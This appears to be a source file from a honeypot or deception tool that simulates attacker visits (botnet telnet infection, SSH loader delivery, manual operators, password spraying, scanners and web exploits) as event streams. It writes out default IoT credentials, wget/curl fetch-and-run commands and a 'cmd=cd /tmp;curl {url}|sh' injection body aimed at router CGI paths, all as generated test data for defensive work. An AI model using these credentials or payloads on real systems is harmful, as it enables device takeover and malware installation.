# SPDX-License-Identifier: MIT
"""What a visit in the fourth world consists of: of a botnet, a hands-on crew, brokers and buyers, scanners."""

from __future__ import annotations

import hashlib
from collections.abc import Iterator, Sequence
from random import Random
from typing import NamedTuple

from decnet_core.events.catalogue import (
    CommandRun,
    ConnectionOpened,
    FileCaptured,
    HttpClient,
    HttpRequest,
    LoginAttempt,
    Payload,
    SessionClosed,
    SessionOpened,
    TlsClient,
)
from planted import arsenal
from planted.arsenal import Client, hexadecimal, word
from planted.trades import arrive

DEFAULTS = (("root", "xc3511"), ("root", "vizxv"), ("admin", "admin"), ("root", "admin"), ("root", "888888"))
TOP = ("123456", "password", "admin123", "root", "qwerty", "P@ssw0rd", "1q2w3e4r", "test", "changeme")
ACCOUNTS = ("root", "admin", "oracle", "postgres", "ubuntu", "ftpuser", "test", "git", "deploy", "backup")
LOOK = ("id", "uname -a", "w", "cat /etc/os-release", "ip a", "ls -la /home", "df -h", "ps aux", "last -20", "env")

Credential = tuple[str, str]


class Build(NamedTuple):
    """What a botnet spreads at a time: where its loader is, its programs by processor."""

    host: str
    family: str
    script: str
    hashes: tuple[str, ...]

    @classmethod
    def of(cls, dice: Random, host: str, family: str) -> Build:
        return cls(host, family, word(dice, 2), tuple(hexadecimal(dice, 64) for _ in range(3)))


def infect(dice: Random, build: Build, token: str) -> Iterator[Payload]:
    """Infect as an infected device does."""
    yield ConnectionOpened("telnet")
    for user, secret in dice.sample(DEFAULTS, dice.randrange(1, 4)):
        yield LoginAttempt("telnet", user, False, password=secret)
    yield LoginAttempt("telnet", "root", True, password="root")
    yield SessionOpened("telnet", "root")
    kind = dice.randrange(3)
    url = f"http://{build.host}/{build.family}.{('mips', 'arm7', 'x86')[kind]}"
    for line in ("enable", "system", "sh", f"/bin/busybox {token}", f"cd /tmp || cd /var/run; wget {url} -O .x; ./.x"):
        yield CommandRun("telnet", line)
    if dice.random() < 0.7:
        yield FileCaptured("telnet", build.hashes[kind], 70_000, None, url)


def load(dice: Random, at: Client, build: Build, secrets: Sequence[Credential]) -> Iterator[Payload]:
    """Deliver a botnet's script over SSH, as its operator's own servers do."""
    yield from arrive(at)
    for user, secret in dice.sample(secrets, min(len(secrets), dice.randrange(3, 15))):
        yield LoginAttempt("ssh", user, False, password=secret)
    yield LoginAttempt("ssh", "root", True, password=dice.choice(TOP))
    url = f"http://{build.host}/{build.script}.sh"
    yield CommandRun(
        "ssh", f"cd /tmp; wget -q {url} || curl -sO {url}; chmod 777 {build.script}.sh; sh {build.script}.sh"
    )
    if dice.random() < 0.8:
        yield FileCaptured("ssh", hashlib.sha256(url.encode()).hexdigest(), 1_200, None, url)


class Operator(NamedTuple):
    """A person at a keyboard."""

    at: Client
    key: arsenal.Key
    lines: tuple[str, ...]
    """What they do once they are in, in their order."""
    secrets: tuple[Credential, ...]


def spray(dice: Random, one: Operator, secrets: Sequence[Credential]) -> Iterator[Payload]:
    """Try logins that fit the victim."""
    yield from arrive(one.at)
    for user, secret in dice.sample(secrets, min(len(secrets), dice.randrange(2, 8))):
        yield LoginAttempt("ssh", user, False, password=secret)
    for _ in range(dice.randrange(3)):
        yield LoginAttempt("ssh", dice.choice(ACCOUNTS), False, password=dice.choice(TOP))


def work(dice: Random, one: Operator, way_in: Credential | None, tool: str) -> Iterator[Payload]:
    """Log in and work by hand: look around, then some of the steps."""
    yield from arrive(one.at)
    if way_in is None:
        yield LoginAttempt("ssh", "root", True, "publickey", public_key=one.key.fingerprint)
    else:
        yield LoginAttempt("ssh", way_in[0], True, password=way_in[1])
    yield SessionOpened("ssh", way_in[0] if way_in else "root", "xterm-256color")
    start = dice.randrange(max(1, len(one.lines) - 2))
    lines = [*dice.sample(LOOK, dice.randrange(1, 5)), *one.lines[start : start + dice.randrange(2, 7)]]
    for line in lines:
        yield CommandRun("ssh", line.replace("{url}", tool).replace("{pub}", one.key.line))
    if tool and dice.random() < 0.5:
        yield CommandRun("ssh", f"curl -sk {tool} -o /tmp/.{word(dice, 1)}")
    yield SessionClosed("ssh", dice.randrange(60_000, 2_400_000), len(lines))


def harvest(dice: Random, at: Client, found: Credential | None) -> Iterator[Payload]:
    """Guess passwords until one is accepted, look whether it is a real machine, leave."""
    yield from arrive(at)
    for _ in range(dice.randrange(6, 25)):
        yield LoginAttempt("ssh", dice.choice(ACCOUNTS), False, password=dice.choice((*TOP, f"{word(dice, 2)}1")))
    if found:
        yield LoginAttempt("ssh", found[0], True, password=found[1])
        yield SessionOpened("ssh", found[0])
        yield CommandRun("ssh", dice.choice(("uname -s -v -n -r -m", "echo ok; nproc", "uname -a; id")))
        yield SessionClosed("ssh", dice.randrange(800, 4_000), 1)


def probe(dice: Random, agent: str, at: Client) -> Iterator[Payload]:
    """Look what answers, as researchers do."""
    yield from arrive(at, "http")
    yield HttpClient("GET", "HTTP/1.1", "scanner", hashlib.md5(agent.encode()).hexdigest(), ("Host",), agent)
    if dice.random() < 0.5:
        yield TlsClient("tcp", "0" * 32, f"t13d1516h2_{agent[:12]}_0", 0x0303)
    for path in dice.sample(("/", "/robots.txt", "/favicon.ico", "/.well-known/security.txt"), 2):
        yield HttpRequest("GET", path, user_agent=agent, status=200)


def guess(dice: Random, at: Client) -> Iterator[Payload]:
    yield from arrive(at)
    for _ in range(dice.randrange(4, 20)):
        yield LoginAttempt("ssh", dice.choice(ACCOUNTS), False, password=dice.choice(TOP))


def exploit(dice: Random, at: Client, agent: str, url: str) -> Iterator[Payload]:
    """Use a published weakness of a Web program to fetch something."""
    yield from arrive(at, "http")
    yield HttpClient("POST", "HTTP/1.1", "other", hexadecimal(Random(agent), 32), ("Host",), agent)
    body = f"cmd=cd /tmp;curl {url}|sh"
    yield HttpRequest(
        "POST", dice.choice(("/cgi-bin/luci", "/setup.cgi", "/boaform")), user_agent=agent, status=200, body=body
    )
    if dice.random() < 0.4:
        yield FileCaptured("http", hashlib.sha256(url.encode()).hexdigest(), 2_000, None, url)
